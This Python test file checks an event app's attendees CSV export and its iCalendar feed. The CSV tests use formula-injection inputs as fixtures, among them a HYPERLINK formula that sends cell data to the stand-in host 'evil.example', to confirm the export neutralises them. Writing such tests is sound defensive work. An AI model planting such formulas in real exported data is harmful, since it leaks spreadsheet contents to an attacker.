"""Exports through HTTP: the attendees CSV (RFC 4180 round trip, the formula guard,
the file name) and the iCalendar feed (parsed with `icalendar`, cached and fresh)."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime, timedelta

import icalendar
import redis

from eventms.notifications.messages import event_uid
from tests.support.api import make_attendee, make_event, register

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click me")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "Smith, Jane",
    'Dwayne "The Rock" Johnson',
    "Zoë Ångström",
]
# Refused at the edge today (names are one line), but still in rows kept from before.


def rows_of(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body, newline="")))


async def test_attendees_csv_round_trips_and_guards_formulas(client, db):
    event = await make_event(client, name='Ünïcode "Gala" / 2030', maxAttendees=20)
    people = [
        await make_attendee(client, name=name, email=f"p{i}@example.com")
        for i, name in enumerate(NAMES)
    ]
    # What the API trims away (a leading tab or CR) can still be in the table.
    raw_names = ["\tTabbed", "\rReturned", "Two\nLines"]
    for i, name in enumerate(raw_names):
        db.execute(
            "INSERT INTO attendees (id, name, email) VALUES (%s, %s, %s)",
            (uuid.uuid4(), name, f"raw{i}@example.com"),
        )
    raw_people = db.execute(
        "SELECT id FROM attendees WHERE email LIKE 'raw%%' ORDER BY email"
    ).fetchall()
    tickets = []
    for person_id in [p["id"] for p in people] + [str(r[0]) for r in raw_people]:
        made = await register(client, event["id"], person_id)
        assert made.status_code == 201
        tickets.append(made.json()["result"])
    checked = await client.post("/checkin", json={"code": tickets[0]["ticketCode"]})
    assert checked.status_code == 201

    response = await client.get(f"/event/{event['id']}/attendees.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="unicode-gala-2030-attendees.csv"'
    )
    assert response.text.startswith("name,email,registeredAt,checkedInAt\r\n")
    rows = rows_of(response.text)
    expected = ["'" + n if n[0] in "=+-@" else n for n in NAMES] + [
        "'\tTabbed",
        "'\rReturned",
        "Two\nLines",
    ]
    assert [r["name"] for r in rows] == expected
    assert [r["email"] for r in rows][: len(NAMES)] == [p["email"] for p in people]
    today = date.today().isoformat()
    assert {r["registeredAt"] for r in rows} <= {today, (date.today() - timedelta(1)).isoformat()}
    assert rows[0]["checkedInAt"] == checked.json()["result"]["checkedInAt"]
    assert all(r["checkedInAt"] == "" for r in rows[1:])


async def test_an_email_that_looks_like_a_formula_is_guarded_too(client, db):
    event = await make_event(client)
    person_id = uuid.uuid4()
    db.execute(
        "INSERT INTO attendees (id, name, email) VALUES (%s, 'Plain', '=cmd@example.com')",
        (person_id,),
    )
    assert (await register(client, event["id"], str(person_id))).status_code == 201
    [row] = rows_of((await client.get(f"/event/{event['id']}/attendees.csv")).text)
    assert row["email"] == "'=cmd@example.com"


async def test_attendees_csv_of_an_empty_unknown_or_malformed_event(client):
    event = await make_event(client, name="***")
    empty = await client.get(f"/event/{event['id']}/attendees.csv")
    assert empty.status_code == 200
    assert empty.text == "name,email,registeredAt,checkedInAt\r\n"
    assert 'filename="event-attendees.csv"' in empty.headers["content-disposition"]
    missing = await client.get(f"/event/{uuid.uuid4()}/attendees.csv")
    assert missing.status_code == 404
    assert missing.json()["message"].startswith("Event with ID ")
    assert (await client.get("/event/nope/attendees.csv")).status_code == 404


async def test_the_feed_lists_upcoming_events_in_utc_with_the_mails_uid(client):
    timed = await make_event(
        client, name="Launch", date="2030-01-15", startTime="18:30", timezone="Europe/Paris"
    )
    all_day = await make_event(client, name="Fair", date="2030-02-01", location="Park")
    await make_event(client, name="Long gone", date="2001-01-01")

    response = await client.get("/events.ics")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/calendar; charset=utf-8"
    calendar = icalendar.Calendar.from_ical(response.content)
    entries = {str(e["SUMMARY"]): e for e in calendar.walk("VEVENT")}
    assert set(entries) == {"Launch", "Fair"}
    launch = entries["Launch"]
    assert str(launch["UID"]) == event_uid(uuid.UUID(timed["id"]))
    assert launch.decoded("DTSTART") == datetime(2030, 1, 15, 17, 30, tzinfo=UTC)
    assert launch.decoded("DTEND") == datetime(2030, 1, 15, 18, 30, tzinfo=UTC)
    assert "DTSTART:20300115T173000Z" in response.text
    fair = entries["Fair"]
    assert str(fair["UID"]) == f"{all_day['id']}@eventms"
    assert fair.decoded("DTSTART") == date(2030, 2, 1)
    assert str(fair["LOCATION"]) == "Park"


async def test_the_feed_is_cached_and_an_event_write_refreshes_it(client, redis_url):
    event = await make_event(client, name="Before", date="2030-03-01")
    assert "SUMMARY:Before" in (await client.get("/events.ics")).text
    with redis.Redis.from_url(redis_url) as connection:
        assert connection.keys("ems:v:feed:*"), "the feed was not cached"
    assert "SUMMARY:Before" in (await client.get("/events.ics")).text  # a hit
    changed = await client.patch(f"/event/{event['id']}", json={"name": "After"})
    assert changed.status_code == 200
    body = (await client.get("/events.ics")).text
    assert "SUMMARY:After" in body and "Before" not in body
    await make_event(client, name="Brand new", date="2030-03-02")
    assert "SUMMARY:Brand new" in (await client.get("/events.ics")).text
    assert (await client.delete(f"/event/{event['id']}")).status_code == 200
    assert "After" not in (await client.get("/events.ics")).text
